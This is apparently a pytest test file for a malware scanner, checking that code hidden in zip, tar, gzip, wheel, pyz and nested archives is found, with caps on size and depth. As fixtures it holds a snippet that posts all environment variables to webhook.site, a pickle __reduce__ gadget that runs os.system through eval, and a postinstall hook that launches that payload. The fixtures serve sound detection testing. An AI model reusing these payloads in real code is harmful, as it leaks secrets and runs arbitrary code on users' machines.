"""Archives in a tree are read in memory, under caps, and never silent."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import pickle
import tarfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fimci import readers, sides
from fimci.archives.bounds import MiB
from fimci.model import Capability
from fimci.readers.binary import packed
from fimci.sources.locator import Locator

THEFT = (
    b"import os, urllib.request\n"
    b"urllib.request.urlopen('https://webhook.site/left', data=repr(dict(os.environ)).encode())\n"
)
SENT = ("exfiltration", "environment -> webhook.site")


def zipped(members: dict[str, bytes], before: bytes = b"") -> bytes:
    file = io.BytesIO()
    file.write(before)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file.getvalue()


def tarred(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def told(path: str, data: bytes) -> list[Capability]:
    found: list[Capability] = []
    for reader in readers.with_code(path):
        if reader.name.startswith("packed") and reader.wants(path, data[:4096]):
            found += [one for one in reader.read(path, data) if isinstance(one, Capability)]
    return found


def chains(path: str, data: bytes) -> set[tuple[str, str, str]]:
    return {(one.path, one.name, one.subject) for one in told(path, data) if one.name == "exfiltration"}


@pytest.mark.parametrize(
    ("path", "data", "inside"),
    [
        ("inner.zip", zipped({"a/left.py": THEFT}), "a/left.py"),
        ("logo.dat", zipped({"left.py": THEFT}), "left.py"),
        ("left.whl", zipped({"left/__init__.py": THEFT}), "left/__init__.py"),
        ("inner.tar", tarred({"left.py": THEFT}), "left.py"),
        ("inner.tgz", gzip.compress(tarred({"left.py": THEFT})), "left.py"),
        ("inner.tar.bz2", bz2.compress(tarred({"left.py": THEFT})), "left.py"),
        ("left.py.gz", gzip.compress(THEFT), "left.py"),
        ("tool.pyz", zipped({"__main__.py": THEFT}, b"#!/usr/bin/env python3\n"), "__main__.py"),
        ("in.zip", zipped({"in.tgz": gzip.compress(tarred({"left.py": THEFT}))}), "in.tgz!/left.py"),
    ],
)
def test_members_are_read(path: str, data: bytes, inside: str) -> None:
    assert chains(path, data) == {(f"{path}!/{inside}", *SENT)}
    assert {one.phase for one in told(path, data)} == {"call"}
    (line,) = {one.at.line for one in told(path, data) if one.name == "exfiltration"}
    assert line == 2


def test_what_has_no_code_is_silent() -> None:
    assert told("data.zip", zipped({"data.csv": b"1,2\n", "README.md": b"# Left\n"})) == []
    assert told("table.csv.gz", gzip.compress(b"1,2\n" * 100)) == []


def test_what_stays_shut_is_told() -> None:
    deep = zipped({"b.zip": zipped({"c.zip": zipped({"left.py": THEFT})})})
    assert {(one.path, one.subject) for one in told("a.zip", deep)} == {
        ("a.zip!/b.zip!/c.zip", "archive: is too deep in others: not looked into")
    }
    cut = zipped({"left.py": THEFT})[:-10]
    assert {one.name for one in told("a.zip", cut)} == {"unanalyzed"}
    locked = bytearray(zipped({"left.py": THEFT}))
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        locked[locked.index(mark) + (6 if mark.endswith(b"\x04") else 8)] |= 1
    assert ("a.zip!/left.py", "archive: is encrypted") in {
        (one.path, one.subject) for one in told("a.zip", bytes(locked))
    }


def test_caps() -> None:
    large = zipped({"large.py": b"#" * (9 * MiB), "left.py": THEFT})
    assert ("a.zip!/large.py", "archive: is larger than 8 MiB") in {
        (one.path, one.subject) for one in told("a.zip", large)
    }
    assert chains("a.zip", large)
    bomb = gzip.compress(b"\0" * (80 * MiB))
    assert {one.name for one in told("a.gz", bomb)} <= {"unanalyzed"}
    many = zipped({f"{number}.txt": b"" for number in range(packed.LIMITS.members + 2)})
    assert [one.name for one in told("a.zip", many)] == ["unanalyzed"]


def test_a_name_that_leads_out_lies_nowhere() -> None:
    assert all("../" not in one.path for one in told("a.zip", zipped({"../left.py": THEFT})))


def test_an_archive_of_torch_runs_its_pickle() -> None:
    class Runs:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return eval, ("__import__('os').system('id')",)

    data = zipped({"archive/data.pkl": pickle.dumps(Runs()), "archive/version": b"3\n"})
    found = {(one.name, one.phase) for one in told("model.pt", data)}
    assert ("encoded-payload", "import") in found
    assert ("encoded-payload", "call") in {(one.name, one.phase) for one in told("model.zip", data)}


def package(folder: Path, scripts: dict[str, str]) -> None:
    folder.mkdir()
    manifest = {"name": "left", "version": "1.0.0", "scripts": scripts}
    (folder / "package.json").write_text(json.dumps(manifest))
    (folder / "tool.pyz").write_bytes(zipped({"__main__.py": THEFT}))


@pytest.mark.parametrize(("script", "phase"), [("postinstall", "install"), ("test", "call")])
def test_a_script_runs_the_archive(tmp_path: Path, script: str, phase: str) -> None:
    package(tmp_path / "left", {script: "python3 tool.pyz"})
    how = sides.recipe(code=True)
    found = sides.snapshot(Locator("dir", str(tmp_path / "left")), how).records
    inside = {one.phase for one in found if isinstance(one, Capability) and one.path.startswith("tool.pyz!")}
    assert inside == {phase}


@given(
    st.binary(max_size=300), st.sampled_from([b"PK\x03\x04", b"\x1f\x8b\x08", b"BZh9", b"\xfd7zXZ\0", b""])
)
@settings(max_examples=200, deadline=None)
def test_any_bytes_have_a_reading(tail: bytes, head: bytes) -> None:
    told("left.zip", head + tail)
